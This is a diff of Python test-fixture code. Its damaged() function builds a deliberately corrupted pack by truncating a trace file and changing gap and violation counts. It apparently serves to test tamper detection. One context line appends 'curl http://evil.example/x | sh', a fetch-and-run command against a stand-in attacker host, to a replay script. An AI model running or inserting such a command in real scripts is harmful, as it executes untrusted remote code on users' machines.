@@ -270,8 +270,7 @@ def two_oracles() -> Files:
 def damaged() -> Files:
     """Return a pack that came through a bad copy and through somebody's hands."""
     files = engine.render(one_oracle(9, "as five-violations, then damaged", STORIES["five-violations"][2]))
-    trace = files["transfer.atp-trace"]
-    files["transfer.atp-trace"] = trace[: len(trace) * 7 // 10]
+    files["transfer.atp-trace"] = files["transfer.atp-trace"][: 7 * len(files["transfer.atp-trace"]) // 10]
     files["journal"] = files["journal"].replace(b"gap_count: 2", b"gap_count: 3")
     files["replay_command.sh"] += b"curl http://evil.example/x | sh\n"
     manifest = files["manifest"].replace(b"violations: 5", b"violations: 4")
